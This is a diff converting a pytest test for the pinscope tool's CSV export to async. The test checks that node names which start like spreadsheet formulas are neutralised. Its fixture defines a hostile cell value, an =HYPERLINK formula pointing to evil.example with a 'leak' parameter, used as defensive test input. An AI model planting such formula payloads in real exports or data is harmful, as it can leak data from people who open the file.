@@ -1,12 +1,11 @@
 """`e`'s CSV opened in a spreadsheet (issue 23): node text that starts like a formula (`=`, `+`, `-`, `@`, tab,
 carriage return: OWASP's list) is neutralised with a leading `'`; every text cell is quoted; the numbers
 pinscope wrote stay numbers. Through the app's own export path, from a node whose names are hostile."""
-import asyncio
 import csv
 import io
 
 from pinscope.collectors.sim.node import CtrSpec, NodeSpec, PodSpec
-from frozen import FrozenApp, frozen_samples
+from frozen import FrozenApp, frozen_samples_async
 
 HOST = '=HYPERLINK("http://evil.example/?leak","click me")'
 
@@ -18,18 +17,16 @@ def formula_node() -> NodeSpec:
                           PodSpec("q", "-1", containers=[CtrSpec("c", cpus="3")])])
 
 
-def test_hostile_names_reach_the_csv_as_text_not_formulas(tmp_path, monkeypatch):
+async def test_hostile_names_reach_the_csv_as_text_not_formulas(tmp_path, monkeypatch):
     out = tmp_path / "out"
     monkeypatch.setenv("PINSCOPE_SCREENSHOTS", str(out))
-    report = frozen_samples(formula_node(), tmp_path / "tree")
+    report = await frozen_samples_async(formula_node(), tmp_path / "tree")
 
-    async def go():
-        app = FrozenApp({"evil": report}, start="evil")
-        async with app.run_test(size=(160, 50)) as pilot:
-            await pilot.pause()
-            await pilot.press("e")
-            await pilot.pause()
-    asyncio.run(go())
+    app = FrozenApp({"evil": report}, start="evil")
+    async with app.run_test(size=(160, 50)) as pilot:
+        await pilot.pause()
+        await pilot.press("e")
+        await pilot.pause()
     (path,) = out.glob("*.csv")
     raw = path.read_text()
     rows = list(csv.DictReader(io.StringIO(raw)))
